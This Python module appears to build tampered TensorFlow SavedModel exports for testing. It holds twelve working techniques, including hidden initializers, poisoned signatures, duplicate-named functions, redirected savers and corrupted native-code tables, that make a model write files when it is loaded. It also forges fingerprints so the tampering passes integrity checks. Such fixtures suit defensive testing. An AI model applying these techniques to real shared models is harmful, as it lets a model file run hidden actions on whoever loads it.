"""Exports that were changed to run something when they are loaded.

Each writes a checkpoint over files of a name that it is given.
"""

from collections.abc import Callable

import numpy as np
import tensorflow as tf
from tensorflow.core.framework import types_pb2
from tensorflow.core.protobuf import fingerprint_pb2, saved_model_pb2
from tensorflow.python.saved_model.pywrap_saved_model import fingerprinting

_EVIL = "__inference_evil_1"


def rewrite(version, change: Callable) -> None:
    """Changes the graph on disk, with a fingerprint that fits."""
    path = version / "saved_model.pb"
    saved_model = saved_model_pb2.SavedModel.FromString(path.read_bytes())
    change(saved_model.meta_graphs[0])
    path.write_bytes(saved_model.SerializeToString())
    seal(version)


def seal(version) -> None:
    """Writes the fingerprint that TensorFlow would write now."""
    made = fingerprinting.CreateFingerprintDef(str(version))
    fingerprint_pb2.FingerprintDef.FromString(made)
    (version / "fingerprint.pb").write_bytes(made)


def resource(meta_graph, prefix: str) -> None:
    """A resource whose `_initialize` is run when it is loaded."""
    nodes = meta_graph.object_graph_def.nodes
    function_id = _add_function_object(meta_graph, prefix)
    node = nodes.add()
    node.resource.device = ""
    node.children.add(local_name="_initialize", node_id=function_id)


def saveable(meta_graph, prefix: str) -> None:
    """A variable that is saved and restored by functions of the graph."""
    function_id = _add_function_object(meta_graph, prefix)
    node = meta_graph.object_graph_def.nodes[_variable_id(meta_graph)]
    saved = node.saveable_objects[".TENSORS"]
    saved.save_function = function_id
    saved.restore_function = function_id


def initial_operation(meta_graph, prefix: str) -> None:
    """No object graph: TensorFlow 1's loading, which runs an operation."""
    meta_graph.ClearField("object_graph_def")
    graph = meta_graph.graph_def
    for node in _saving_nodes(prefix):
        graph.node.add().CopyFrom(node)
        for place, name in enumerate(graph.node[-1].input):
            graph.node[-1].input[place] = name.replace(":output:0", ":0")
    graph.node.add(name="evil_init", op="NoOp", input=["^evil/save"])
    collection = meta_graph.collection_def["saved_model_main_op"]
    collection.node_list.value[:] = ["evil_init"]
    signature = meta_graph.signature_def["__saved_model_init_op"]
    signature.outputs["__saved_model_init_op"].name = "evil_init"


def signature_function(meta_graph, prefix: str) -> None:
    """Files are written by what a signature computes with."""
    encode = _function_with(meta_graph, "FastWordpieceTokenizeWithOffsets")
    encode.node_def.extend(_saving_nodes(prefix))
    encode.signature.is_stateful = True
    encode.signature.control_output.append("evil/save")
    encode.control_ret["evil/save"] = "evil/save"


def second_saver(meta_graph, prefix: str) -> None:
    """A signature calls the function that saves."""
    save = _function_with(meta_graph, "SaveV2").signature.name
    wrapper = _function_with(meta_graph, "MatMul")
    call = wrapper.node_def.add(name="evil", op="StatefulPartitionedCall")
    call.CopyFrom(
        next(
            node
            for node in meta_graph.graph_def.node
            if node.attr["f"].func.name == save
        )
    )
    call.name = "evil"


def registered_class(meta_graph, prefix: str) -> None:
    """An object is made, and restored, by a class registered in Python."""
    node = meta_graph.object_graph_def.nodes[_variable_id(meta_graph)]
    node.registered_name = "Custom.Evil"


def registered_saver(meta_graph, prefix: str) -> None:
    node = meta_graph.object_graph_def.nodes[_variable_id(meta_graph)]
    node.registered_saver = "Custom.Evil"


def gradient(meta_graph, prefix: str) -> None:
    """A function that no signature calls, under another's gradient."""
    _add_function(meta_graph, prefix)
    library = meta_graph.graph_def.library
    library.gradient.add(
        function_name=library.function[0].signature.name, gradient_func=_EVIL
    )


def hidden_twin(meta_graph, prefix: str) -> None:
    """Two functions of one name, of which one is harmless."""
    function = _add_function(meta_graph, prefix)
    library = meta_graph.graph_def.library
    function.signature.name = library.function[0].signature.name


def other_file_name(meta_graph, prefix: str) -> None:
    """Variables are restored from, and saved to, somewhere else."""
    node = next(
        n for n in meta_graph.graph_def.node if n.name == "saver_filename"
    )
    node.CopyFrom(_constant("saver_filename", prefix.encode()))


def other_table(meta_graph, prefix: str) -> None:
    """Bytes that are no table of word pieces, for native code to read."""
    [node] = [
        n
        for n in meta_graph.graph_def.node
        if n.attr["dtype"].type == types_pb2.DT_UINT8
    ]
    tensor = node.attr["value"].tensor
    noise = np.random.default_rng(0).bytes(5000)
    tensor.tensor_content = noise + tensor.tensor_content[5000:]


def table_in_a_function(meta_graph, prefix: str) -> None:
    """The constant is as it was, and another one takes its place."""
    encode = _function_with(meta_graph, "FastWordpieceTokenizeWithOffsets")
    encode.node_def.append(_constant("evil", np.zeros(5000, np.uint8)))
    for node in encode.node_def:
        if node.op == "FastWordpieceTokenizeWithOffsets":
            node.input[1] = "evil:output:0"


ATTACKS = {
    function.__name__: function
    for function in (
        *(resource, saveable, initial_operation, signature_function),
        *(second_saver, registered_class, registered_saver, gradient),
        *(hidden_twin, other_file_name, other_table, table_in_a_function),
    )
}


def _constant(name: str, value):
    tensor = tf.make_tensor_proto(value)
    node = tf.compat.v1.NodeDef(name=name, op="Const")
    node.attr["value"].tensor.CopyFrom(tensor)
    node.attr["dtype"].type = tensor.dtype
    return node


def _saving_nodes(prefix: str) -> list:
    save = tf.compat.v1.NodeDef(name="evil/save", op="SaveV2")
    save.attr["dtypes"].list.type.append(types_pb2.DT_FLOAT)
    values = {
        "evil/prefix": prefix.encode(),
        "evil/names": [b"x"],
        "evil/slices": [b""],
        "evil/value": np.float32(1),
    }
    save.input.extend(f"{name}:output:0" for name in values)
    return [*(_constant(*item) for item in values.items()), save]


def _add_function(meta_graph, prefix: str):
    function = meta_graph.graph_def.library.function.add()
    function.signature.name = _EVIL
    function.signature.is_stateful = True
    function.signature.control_output.append("evil/save")
    function.control_ret["evil/save"] = "evil/save"
    function.node_def.extend(_saving_nodes(prefix))
    return function


def _add_function_object(meta_graph, prefix: str) -> int:
    """A function and the object that calls it: the object's number."""
    _add_function(meta_graph, prefix)
    graph = meta_graph.object_graph_def
    concrete = graph.concrete_functions[_EVIL]
    arguments = concrete.canonicalized_input_signature.tuple_value.values
    arguments.add().tuple_value.SetInParent()
    arguments.add().dict_value.SetInParent()
    concrete.output_signature.none_value.SetInParent()
    wrapper = next(
        n.bare_concrete_function
        for n in graph.nodes
        if n.WhichOneof("kind") == "bare_concrete_function"
    )
    bare = graph.nodes.add().bare_concrete_function
    bare.concrete_function_name = _EVIL
    bare.function_spec.CopyFrom(wrapper.function_spec)
    for pair in bare.function_spec.fullargspec.named_tuple_value.values:
        if pair.key in ("args", "kwonlyargs"):
            del pair.value.list_value.values[:]
    return len(graph.nodes) - 1


def _variable_id(meta_graph) -> int:
    nodes = meta_graph.object_graph_def.nodes
    return next(
        place
        for place, node in enumerate(nodes)
        if node.WhichOneof("kind") == "variable"
        and [size.size for size in node.variable.shape.dim] == [16]
    )


def _function_with(meta_graph, operation: str):
    return next(
        function
        for function in meta_graph.graph_def.library.function
        if any(node.op == operation for node in function.node_def)
    )
